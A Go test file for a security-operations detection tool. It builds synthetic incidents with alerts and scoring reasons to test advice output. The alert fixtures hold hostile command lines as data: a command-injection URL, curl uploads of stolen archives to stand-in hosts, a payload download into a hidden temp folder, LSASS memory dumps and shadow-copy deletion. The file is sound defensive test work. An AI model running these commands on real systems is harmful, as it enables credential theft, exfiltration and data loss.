package advise_test

import (
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"
	"time"

	vedette "github.com/vedette-soc/vedette"
)

// day is when the incidents of the tests begin.
var day = time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC)

// tale collects the evidence of an incident.
type tale struct {
	evidence []vedette.Evidence
	reasons  []vedette.Reason
}

// rule is what a rule says of its matches.
type rule struct {
	id, title, zh string
	severity      vedette.Severity
	tactic        string
	techniques    []string
}

func host(name string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityHost, Name: name, Role: vedette.RoleTarget}
}

func user(name string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityUser, Name: name, Role: vedette.RoleActor}
}

func from(address string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityAddress, Name: address, Role: vedette.RoleActor}
}

func to(address string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityAddress, Name: address, Role: vedette.RoleObject}
}

func domain(name string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityDomain, Name: name, Role: vedette.RoleObject}
}

func program(name string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityProcess, Name: name, Role: vedette.RoleObject}
}

func account(name string) vedette.EntityRef {
	return vedette.EntityRef{Kind: vedette.EntityAccount, Name: name, Role: vedette.RoleTarget}
}

// facts are fields and values in turn.
func facts(pairs ...string) map[string]string {
	all := make(map[string]string, len(pairs)/2)
	for i := 0; i+1 < len(pairs); i += 2 {
		all[pairs[i]] = pairs[i+1]
	}
	return all
}

// at adds what a rule saw, so many times.
func (t *tale) at(minute int, r rule, count int64, known map[string]string, refs ...vedette.EntityRef) *tale {
	a := vedette.Alert{
		ID: fmt.Sprintf("alert-%d", len(t.evidence)), Tenant: vedette.DefaultTenant, Time: day.Add(time.Duration(minute) * time.Minute),
		RuleID: r.id, RuleTitle: r.title, RuleTitleZh: r.zh, Severity: r.severity, Techniques: r.techniques, Matched: map[string]string{}, Facts: known, Entities: refs,
	}
	if r.tactic != "" {
		a.Tactics = []string{r.tactic}
	}
	t.evidence = append(t.evidence, vedette.Evidence{Alert: a, Count: count})
	return t
}

// odd adds what a detector of the unknown saw.
func (t *tale) odd(minute int, an vedette.Anomaly, refs ...vedette.EntityRef) *tale {
	t.at(minute, rule{id: "anomaly." + an.Detector, title: "Unusual: " + an.Feature, zh: "异常：" + an.Feature, severity: vedette.Low}, 1, nil, refs...)
	t.evidence[len(t.evidence)-1].Alert.Anomaly = &an
	return t
}

// speaks adds a contribution.
func (t *tale) speaks(code string, family vedette.Family, weight float64, words vedette.Text, evidence ...int) *tale {
	t.reasons = append(t.reasons, vedette.Reason{Code: code, Family: family, Weight: weight, Text: words, Evidence: evidence})
	return t
}

// incident seals the tale: numbers, counts, a score whose points add up.
func (t *tale) incident() *vedette.Incident {
	slices.SortStableFunc(t.evidence, func(a, b vedette.Evidence) int { return a.Alert.Time.Compare(b.Alert.Time) })
	in := &vedette.Incident{ID: "inc-1", Tenant: vedette.DefaultTenant, Evidence: t.evidence}
	for i := range in.Evidence {
		e := &in.Evidence[i]
		e.Number, e.Text = i+1, vedette.Text{En: e.Alert.RuleTitle, Zh: e.Alert.RuleTitle}
		in.Alerts += e.Count
		if !slices.ContainsFunc(in.Rules, func(r vedette.RuleCount) bool { return r.RuleID == e.Alert.RuleID }) {
			in.Rules = append(in.Rules, vedette.RuleCount{RuleID: e.Alert.RuleID, Title: e.Alert.RuleTitle, Count: e.Count})
		}
	}
	odds, reasons := -6.0, []vedette.Reason{{Code: "prior", Family: vedette.FamilyPrior, Weight: -6, Points: score(-6), Text: vedette.Text{En: "Before any evidence", Zh: "尚无任何证据时"}}}
	for _, r := range t.reasons {
		r.Points, odds = score(odds+r.Weight)-score(odds), odds+r.Weight
		reasons = append(reasons, r)
	}
	in.Score = score(odds)
	for i := range reasons {
		reasons[i].Without = score(odds - reasons[i].Weight)
	}
	in.Reasons = reasons
	return in
}

func score(odds float64) int { return int(math.Round(100 / (1 + math.Exp(-odds/2)))) }

// The rules of the tests.
var (
	webScan  = rule{"scan", "A forgotten or sensitive file was asked for", "请求了遗留或敏感文件", vedette.Low, "reconnaissance", []string{"T1595.003"}}
	command  = rule{"command", "A request carries shell commands", "请求中带有 shell 命令", vedette.High, "initial-access", []string{"T1190", "T1059"}}
	leaving  = rule{"leaving", "A request that left the web folder was answered", "越出 Web 目录的请求得到响应", vedette.High, "initial-access", []string{"T1190"}}
	shell    = rule{"shell", "The web server started a shell", "Web 服务器启动了 shell", vedette.High, "persistence", []string{"T1505.003"}}
	sudo     = rule{"sudo", "sudo opened a shell", "sudo 打开了 shell", vedette.Medium, "privilege-escalation", []string{"T1548.003"}}
	guess    = rule{"guess", "A password from the Internet was wrong", "来自互联网的口令错误", vedette.Low, "credential-access", []string{"T1110.001"}}
	spray    = rule{"spray", "One address tries many accounts", "同一地址尝试多个账户", vedette.Medium, "credential-access", []string{"T1110.003"}}
	accepted = rule{"accepted", "A password from the Internet was accepted", "来自互联网的口令登录成功", vedette.Medium, "initial-access", []string{"T1078"}}
	upload   = rule{"upload", "A file was sent out with curl", "用 curl 外发文件", vedette.High, "exfiltration", []string{"T1048.003"}}
	fetch    = rule{"fetch", "A program was downloaded to a temporary folder", "程序被下载到临时目录", vedette.Medium, "command-and-control", []string{"T1105"}}
	hidden   = rule{"hidden", "A program ran in a hidden folder", "隐藏目录中的程序被运行", vedette.High, "execution", []string{"T1059.004"}}
	lsass    = rule{"lsass", "The memory of LSASS was dumped", "LSASS 内存被转储", vedette.Critical, "credential-access", []string{"T1003.001"}}
	moved    = rule{"moved", "A service account logged in over the network", "服务账户通过网络登录", vedette.Medium, "lateral-movement", []string{"T1021.002"}}
	shadows  = rule{"shadows", "Shadow copies were deleted", "卷影副本被删除", vedette.Critical, "impact", []string{"T1490"}}
	encrypt  = rule{"encrypt", "Many files were renamed alike", "大量文件被同样改名", vedette.Critical, "impact", []string{"T1486"}}
	looking  = rule{"looking", "System information was listed", "列出了系统信息", vedette.Low, "discovery", []string{"T1082"}}
	refused  = rule{"denied", "Many calls to the cloud were denied", "大量云调用被拒绝", vedette.Medium, "discovery", []string{"T1526"}}
	keyMade  = rule{"key", "An access key was made for another user", "为其他用户创建了访问密钥", vedette.High, "persistence", []string{"T1098.001"}}
	trail    = rule{"trail", "The audit trail was stopped", "审计跟踪被停止", vedette.High, "defense-impairment", []string{"T1685.002"}}
	met      = rule{"indicator", "A known bad address was met", "接触了已知恶意地址", vedette.High, "command-and-control", nil}
	dropped  = rule{"dropped", "An administration port was knocked at", "管理端口被探测", vedette.Low, "reconnaissance", []string{"T1595.001"}}
)

// shapes are the incidents whose words are kept under testdata.
func shapes() map[string]*tale {
	words := func(en, zh string) vedette.Text { return vedette.Text{En: en, Zh: zh} }
	known := func(observed, expected float64, unit, detector, feature string, family vedette.Family, en, zh string) vedette.Anomaly {
		return vedette.Anomaly{Detector: detector, Family: family, Feature: feature, Observed: observed, Expected: expected, Unit: unit, Baseline: 900, Weight: 2, Text: words(en, zh)}
	}
	all := make(map[string]*tale)
	ok := facts("http.response.status_code", "200", "http.response.bytes", "412", "url.original", "/cgi/ping?ip=;id")
	gone := facts("http.response.status_code", "404", "http.response.bytes", "162", "url.original", "/.env")
	all["web-shell"] = (&tale{}).at(0, webScan, 1, gone, from("203.0.113.9"), host("web-01")).at(3, webScan, 811, gone, from("203.0.113.9"), host("web-01")).
		at(12, command, 1, ok, from("203.0.113.9"), host("web-01")).
		at(13, shell, 1, facts("process.parent.executable", "/usr/sbin/apache2", "process.executable", "/bin/sh", "process.command_line", "sh -c id"), host("web-01"), user("www-data")).
		at(40, sudo, 1, facts("event.outcome", "success"), host("web-01"), user("www-data")).
		speaks("rule", vedette.FamilyRule, 6, words("“The web server started a shell” is high", "“Web 服务器启动了 shell”为高级"), 4).
		speaks("rule", vedette.FamilyRule, 1.5, words("“A request carries shell commands” is high", "“请求中带有 shell 命令”为高级"), 3).
		speaks("sequence", vedette.FamilySequence, 2, words("The steps follow one another as attacks do", "各步骤符合攻击顺序"), 3, 4, 5)
	all["spray-login-exfil"] = (&tale{}).at(0, spray, 1, facts("event.outcome", "failure"), from("198.51.100.7"), host("vpn-01"), user("li.wei")).
		at(20, spray, 64, facts("event.outcome", "failure"), from("198.51.100.7"), host("vpn-01"), user("wang.fang")).
		at(22, accepted, 1, facts("event.outcome", "success", "event.action", "ssh_login"), from("198.51.100.7"), host("vpn-01"), user("wang.fang")).
		at(50, upload, 1, facts("source.bytes", "2100000000", "process.command_line", "curl -T o.tgz http://192.0.2.80/"), host("vpn-01"), user("wang.fang"), to("192.0.2.80")).
		speaks("rule", vedette.FamilyRule, 7, words("“A file was sent out with curl” is high", "“用 curl 外发文件”为高级"), 4).
		speaks("spread", vedette.FamilySpread, 2, words("Many accounts from one address", "同一地址涉及多个账户"), 1, 2)
	all["dns-only"] = (&tale{}).odd(0, known(5200, 40, "names", "dns-exfiltration", "names below one domain", vedette.FamilyExfil,
		"5200 different names below one domain, where 40 was the most before", "同一域名下出现 5200 个不同名称，此前最多 40 个"), host("ws-31"), domain("t.example.net")).
		speaks("anomaly", vedette.FamilyExfil, 5, words("Names below one domain carry data", "同一域名下的名称携带数据"), 1)
	all["one-critical-rule"] = (&tale{}).at(0, lsass, 1, facts("process.command_line", "rundll32.exe comsvcs.dll, MiniDump 624 l.dmp full"), host("file-01"), user("svc_backup"), program(`c:\windows\system32\rundll32.exe`)).
		speaks("rule", vedette.FamilyRule, 8.5, words("“The memory of LSASS was dumped” is critical", "“LSASS 内存被转储”为严重级"), 1)
	all["noisy-benign"] = (&tale{}).at(0, dropped, 1, facts("event.action", "drop", "src.blocked", "true", "destination.port", "22"), from("192.0.2.44"), host("10.20.1.11")).
		at(900, dropped, 99999, facts("event.action", "drop", "src.blocked", "true", "destination.port", "3389"), from("192.0.2.44"), host("10.20.1.11")).
		speaks("volume", vedette.FamilyVolume, 3, words("More than ever before", "数量超过以往"), 2).
		speaks("scanner", vedette.FamilyExculpatory, -1.5, words("The address belongs to a scanner that everybody knows", "该地址属于公开的扫描器"), 1)
	all["ransomware"] = (&tale{}).at(0, lsass, 1, facts("process.command_line", "procdump -ma lsass"), host("his-db-01"), user("adm.chen")).
		at(20, moved, 1, facts("event.outcome", "success", "event.code", "4624"), host("file-02"), vedette.EntityRef{Kind: vedette.EntityHost, Name: "his-db-01", Role: vedette.RoleActor}, user("adm.chen")).
		at(31, shadows, 1, facts("process.command_line", "vssadmin delete shadows /all"), host("file-02"), user("adm.chen")).
		at(33, encrypt, 1, nil, host("file-02"), user("adm.chen")).at(36, encrypt, 4211, nil, host("file-02"), user("adm.chen")).
		speaks("rule", vedette.FamilyRule, 9, words("“Many files were renamed alike” is critical", "“大量文件被同样改名”为严重级"), 4, 5)
	all["cloud-key"] = (&tale{}).odd(0, known(1, 0, "logins", "first-seen", "country of login by user", vedette.FamilyIdentity,
		"the first login from this country in 400", "400 次登录中首次来自该国家"), from("203.0.113.77"), user("deploy-bot"), account("123456789012")).
		at(2, refused, 31, facts("event.outcome", "failure", "error.code", "AccessDenied"), from("203.0.113.77"), user("deploy-bot"), account("123456789012")).
		at(9, keyMade, 1, facts("event.outcome", "success", "event.action", "CreateAccessKey"), from("203.0.113.77"), user("deploy-bot"), account("123456789012")).
		at(14, trail, 1, facts("event.outcome", "success", "event.action", "StopLogging"), from("203.0.113.77"), user("deploy-bot"), account("123456789012")).
		speaks("rule", vedette.FamilyRule, 7, words("“The audit trail was stopped” is high", "“审计跟踪被停止”为高级"), 4).
		speaks("anomaly", vedette.FamilyIdentity, 2, words("A login unlike the account", "与账户习惯不符的登录"), 1)
	all["insider-at-night"] = (&tale{}).odd(840, known(3, 0, "logins", "hour-of-week", "logins by hour", vedette.FamilyVolume,
		"3 logins at an hour that had none in 12 weeks", "该时段 12 周内从无登录，此次出现 3 次"), host("fin-07"), user("zhao.lei")).
		odd(860, known(48e9, 2e8, "bytes", "volume", "bytes sent by user", vedette.FamilyExfil, "48.0 GB sent where 200.0 MB was the most before", "外发 48.0 GB，此前最多 200.0 MB"), host("fin-07"), user("zhao.lei"), to("198.51.100.90")).
		at(861, upload, 1, facts("process.command_line", "curl -T finance.7z https://drop.example/"), host("fin-07"), user("zhao.lei"), to("198.51.100.90")).
		speaks("rule", vedette.FamilyRule, 6, words("“A file was sent out with curl” is high", "“用 curl 外发文件”为高级"), 3).
		speaks("anomaly", vedette.FamilyExfil, 2.5, words("More data than ever before", "数据量超过以往"), 2).
		speaks("anomaly", vedette.FamilyVolume, 1.5, words("An hour at which nobody works", "无人工作的时段"), 1)
	learning := known(1, 0, "programs", "first-seen", "program by host", vedette.FamilyNovelty, "a program never seen on this machine in 900 starts", "该主机 900 次启动中首次出现的程序")
	learning.Learning = true
	all["anomaly-only"] = (&tale{}).odd(0, learning, host("ws-12"), user("xu.hao"), program("/opt/tool/agentx")).
		odd(7, known(212, 9, "machines", "fan-out", "machines reached by host", vedette.FamilySpread, "212 machines reached where 9 was the most before", "连接了 212 台主机，此前最多 9 台"), host("ws-12"), user("xu.hao")).
		speaks("anomaly", vedette.FamilySpread, 2.5, words("More machines than ever before", "连接主机数超过以往"), 2).
		speaks("anomaly", vedette.FamilyNovelty, 0.6, words("A program never seen here", "从未见过的程序"), 1)
	all["indicator-hit"] = (&tale{}).at(0, met, 1, facts("event.outcome", "success", "event.action", "accept", "destination.port", "443"), vedette.EntityRef{Kind: vedette.EntityAddress, Name: "10.20.8.31", Role: vedette.RoleActor}, to("198.51.100.200")).
		speaks("indicator", vedette.FamilyIntel, 5, words("198.51.100.200 is known to be bad", "198.51.100.200 为已知恶意地址"), 1)
	all["indicator-hit"].evidence[0].Alert.Indicator = &vedette.Sighting{Kind: vedette.IndicatorAddress, Value: "198.51.100.200", Feeds: []string{"c2-tracker"}, Confidence: 85}
	all["correlation"] = (&tale{}).at(0, rule{"both", "Guesses, then a login", "先猜测口令后登录", vedette.High, "credential-access", []string{"T1110.001", "T1078"}}, 1, nil, from("203.0.113.5"), host("bastion-01"), user("root")).
		speaks("rule", vedette.FamilyRule, 7, words("“Guesses, then a login” is high", "“先猜测口令后登录”为高级"), 1)
	all["correlation"].evidence[0].Alert.Correlation = &vedette.Correlated{Type: "temporal_ordered", Condition: "within 10m", Value: 2}
	merged := (&tale{}).at(0, guess, 1, facts("event.outcome", "failure"), from("203.0.113.66"), host("web-01"), user("root")).
		at(10, guess, 59, facts("event.outcome", "failure"), from("203.0.113.66"), host("web-01"), user("deploy")).
		at(18, accepted, 1, facts("event.outcome", "success"), from("203.0.113.66"), host("web-01"), user("deploy")).
		at(25, fetch, 1, facts("process.command_line", "curl -s -o /tmp/.cache-x/kit http://198.51.100.23/kit"), host("web-01"), user("deploy"), to("198.51.100.23")).
		at(27, hidden, 1, facts("process.executable", "/tmp/.cache-x/kit", "process.command_line", "/tmp/.cache-x/kit --quiet"), host("web-01"), user("deploy"), program("/tmp/.cache-x/kit")).
		at(1500, looking, 3, facts("process.command_line", "systeminfo"), host("ws-07"), user("deploy"))
	all["merged"] = merged.speaks("rule", vedette.FamilyRule, 8, words("“A program ran in a hidden folder” is high", "“隐藏目录中的程序被运行”为高级"), 5)
	return all
}

// shape returns one sealed incident of the shapes.
func shape(t testing.TB, name string) *vedette.Incident {
	t.Helper()
	s := shapes()[name]
	if s == nil {
		t.Fatalf("no shape %s", name)
	}
	return s.incident()
}

func lines(texts []vedette.Text) string {
	var b strings.Builder
	for _, t := range texts {
		b.WriteString("  " + t.En + "\n  " + t.Zh + "\n")
	}
	return b.String()
}
